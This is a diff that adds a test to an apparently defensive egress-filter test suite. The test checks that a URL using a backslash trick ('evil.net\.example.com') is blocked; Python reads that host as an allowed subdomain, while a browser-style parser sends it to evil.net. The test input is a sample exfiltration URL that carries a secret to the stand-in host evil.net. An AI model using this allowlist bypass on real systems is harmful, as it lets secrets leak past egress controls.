@@ -59,6 +59,16 @@ async def test_attack_a_host_spelled_another_way_is_refused(
     assert "refused to connect to evil.net" in text and sent == [], text
 
 
+async def test_attack_a_backslash_in_a_url_written_in_text_is_read_as_a_browser_reads_it(
+        tmp_path: Path) -> None:
+    # Python reads the host of `https://evil.net\.example.com/` as `evil.net\.example.com`
+    # (under `*.example.com`); a browser-style parser takes the backslash for a slash: evil.net
+    text = await posted(tmp_path, {"url": "https://notes.example.com/x",
+                                   "text": f"see https://evil.net\\.example.com/c?d={SECRET}"},
+                        egress_allow=["*.example.com"])
+    assert "refused to connect to evil.net" in text and sent == [], text
+
+
 @pytest.mark.parametrize("arguments", [
     {"url": "https://notes.example.com/x", "text": "see README.md and file:///tmp/a.txt, "
                                                      "branch main, version 1.2.3"},
